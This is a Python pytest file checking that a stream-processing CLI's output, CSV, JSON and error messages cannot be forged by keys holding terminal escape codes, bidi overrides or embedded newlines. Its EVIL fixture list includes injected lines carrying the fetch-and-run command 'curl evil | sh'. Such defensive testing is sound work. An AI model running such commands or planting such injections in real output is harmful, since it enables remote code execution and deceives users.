"""Keys and values of anybody, where text is shown: they forge no row, no line of an error, and no colour."""

from __future__ import annotations

import csv
import io
import os
import pty
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import crossstream as cs
from crossstream import serdes
from crossstream.errors import in_one_line
from crossstream.query.text import to_json
from tests.cli.cases import ENVIRONMENT, call
from tests.docs.state_folder import Writer

TEXT = serdes.string()
EVIL = [
    "a\nb  forged row",
    "\x1b[2J\x1b[31mred",
    "\x9b31mred",
    "\r\x08\x07back",
    "\u202eturned",
    "x\n  next:  curl evil | sh",
    "x\u2028next",
    "x\n    next:  curl evil | sh",
]
OBEYED = [*map(chr, range(32)), "\x7f", *map(chr, range(0x80, 0xA0)), "\u202e", "\u2028", "\u2066", "\u200f"]


def harmless(text: str) -> bool:
    return not any(one in text for one in OBEYED if one != "\n")


@pytest.fixture
def state(tmp_path: Path) -> Path:
    builder = cs.StreamsBuilder()
    builder.table("rows", cs.Consumed(key=TEXT, value=TEXT), cs.Materialized(store="rows"))
    writer = Writer(tmp_path / "state", builder.build())
    writer.run({"rows": [(key.encode(), key.encode(), at) for at, key in enumerate(EVIL)]})
    writer.close()
    return tmp_path / "state"


class TestQuery:
    def test_a_table_has_one_line_for_each_row(self, state: Path, capsys: Any) -> None:
        found = call(capsys, "query", state, "rows")
        assert len(found.out.splitlines()) == 2 + len(EVIL)
        assert harmless(found.out)

    def test_json_keeps_them_and_shows_nothing(self, state: Path, capsys: Any) -> None:
        found = call(capsys, "query", state, "rows", "--format", "json")
        assert sorted(line["key"] for line in found.lines) == sorted(EVIL)
        assert harmless(found.out)

    def test_csv_in_a_file_keeps_them(self, state: Path, capsys: Any) -> None:
        found = call(capsys, "query", state, "rows", "--format", "csv")
        rows = [row for row in csv.reader(io.StringIO(found.out, newline="")) if row]
        assert sorted(key for key, *_ in rows[1:]) == sorted(EVIL)

    @pytest.mark.parametrize("form", ["csv", "table"])
    def test_on_a_terminal(self, state: Path, form: str) -> None:
        ours, theirs = pty.openpty()
        command = [sys.executable, "-m", "crossstream", "query", str(state), "rows", "--format", form]
        with subprocess.Popen(command, stdout=theirs, env={**ENVIRONMENT, "TERM": "xterm", "NO_COLOR": "1"}):
            os.close(theirs)
            said = b""
            while part := _part(ours):
                said += part
        os.close(ours)
        shown = said.decode().replace("\r\n", "\n")
        assert "\x1b[31m" not in shown
        assert "\x1b[2J" not in shown
        assert "\x9b" not in shown
        assert "\u202e" not in shown

    @pytest.mark.parametrize("key", EVIL)
    def test_a_key_that_is_not_there(self, state: Path, capsys: Any, key: str) -> None:
        found = call(capsys, "query", state, "rows", "get", f"none {key}")
        assert len(found.err.splitlines()) == 1
        assert harmless(found.err)

    def test_the_course_of_a_row(self, state: Path, capsys: Any) -> None:
        for key in EVIL:
            found = call(capsys, "why", state, "rows", key)
            assert harmless(found.out)
            assert len(found.out.splitlines()) == 3

    def test_more_digits_than_a_number_has(self, state: Path, capsys: Any) -> None:
        found = call(capsys, "query", state, "rows", "get", "x", "--as-of-time", "9" * 5000)
        assert "CS-281" in found.err
        found = call(capsys, "query", state, "rows", "--as-of", "9" * 5000)
        assert found.code != 0
        assert "CS-001" not in found.err


def _part(file: int) -> bytes:
    try:
        return os.read(file, 4096)
    except OSError:
        return b""


@pytest.mark.parametrize("key", EVIL)
def test_a_key_forges_no_line_of_an_error(key: str) -> None:
    """In each of its parts."""
    for error in (
        cs.StateError(f"the row {key} is lost", code="CS-701", where={"folder": "f"}, next="restore it"),
        cs.StateError("a row is lost", code="CS-701", where={"key": key}, next="restore it"),
        cs.StateError("a row is lost", code="CS-701", where={"folder": "f"}, next=f"restore {key}"),
    ):
        lines = str(error).splitlines()
        assert [line.split(":")[0] for line in lines if ":" in line][-2:] == ["  where", "  next"]
        assert sum(line.strip().startswith("next:") for line in lines) == 1
        assert harmless(str(error))


def test_lines_of_a_log_stay_lines() -> None:
    error = cs.SourceError("the broker did not start\n    line one\n    line two", code="CS-620", next="look")
    assert str(error).count("\n") == 3


@given(st.text())
def test_any_text_is_one_line(text: str) -> None:
    assert harmless(in_one_line(text))
    assert len(in_one_line(text).splitlines()) <= 1


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_is_the_same_in_json(text: str) -> None:
    import msgspec

    assert msgspec.json.decode(to_json(text)) == text
    assert len(to_json(text).splitlines()) == 1
